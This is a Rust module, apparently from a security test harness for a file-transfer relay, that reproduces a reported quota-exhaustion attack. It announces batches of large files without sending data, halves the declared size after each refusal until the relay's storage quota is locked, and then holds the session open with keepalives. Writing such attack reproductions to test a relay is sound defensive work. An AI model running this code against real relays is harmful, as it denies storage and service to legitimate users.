//! Issue 20, item 2: storage quota locked by declared sizes. Batches that
//! announce two 4 GiB files each (the default largest file) and send
//! nothing; a relay that reserves declared bytes for as long as a batch
//! lives refuses every later upload with `Quota`. Refused, the attacker
//! halves the size and goes on, so the quota is filled to within a few KiB
//! whatever the relay already stores (four such batches fill an empty
//! relay's default 32 GiB exactly, but not one that holds anything).

use std::io;
use std::time::{Duration, Instant};

use pickup_proto::message::Message;
use serde_json::{json, Value};

use super::connection::Conn;
use super::Ctx;

/// The default `limits.max_file_size`: the first size tried.
const FILE_SIZE: u64 = 4 << 30;
/// The smallest size tried: below it, what is left of the quota does not
/// hold an honest upload worth measuring.
const MIN_FILE_SIZE: u64 = 1 << 10;
/// Four batches at the first size and two per halving down to the last.
const MAX_BATCHES: usize = 64;

/// Announces huge batches until refused, then holds its session open
/// until the honest transfer is over.
pub fn run(ctx: &Ctx<'_>) -> io::Result<Value> {
    let mut c = Conn::open(ctx.relay, ctx.source)?;
    let start = Instant::now();
    let mut granted = 0usize;
    let mut declared = 0u64;
    let mut size = FILE_SIZE;
    let mut refused = Vec::new();
    for i in 0..MAX_BATCHES {
        if ctx.done() || size < MIN_FILE_SIZE {
            break;
        }
        // Distinct content per file, so nothing is held or linked.
        let files: Vec<_> = (0..2)
            .map(|j| {
                let sha1 = crate::sha1_fast(format!("quota {i} {j}").as_bytes());
                (format!("big-{i}-{j}.bin"), size, sha1)
            })
            .collect();
        c.announce(&files)?;
        match c.grant_and_plan()? {
            Ok(_) => {
                granted += 1;
                declared += 2 * size;
            }
            Err(code) => {
                let code = format!("{code:?}");
                if !refused.contains(&code) {
                    refused.push(code);
                }
                size /= 2;
            }
        }
    }
    let locked_after = start.elapsed().as_secs_f64();
    let bytes_sent = c.sent;
    ctx.arm();
    // The session stays open (the batches would outlive it anyway),
    // answering nothing but keeping the relay's idle timer at bay.
    let mut last = Instant::now();
    while !ctx.done() {
        c.drain()?;
        if last.elapsed() > Duration::from_secs(5) {
            c.send(Message::Keepalive)?;
            last = Instant::now();
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    Ok(json!({
        "summary": format!(
            "{granted} batches declaring {:.1} GiB in {locked_after:.2} s from {bytes_sent} bytes \
             (refused: {})",
            declared as f64 / (1u64 << 30) as f64,
            if refused.is_empty() { "never".to_string() } else { refused.join(", ") }
        ),
        "first_file_size": FILE_SIZE,
        "batches_granted": granted,
        "declared_bytes": declared,
        "refused_with": refused,
        "secs": locked_after,
        "bytes_sent": bytes_sent,
    }))
}
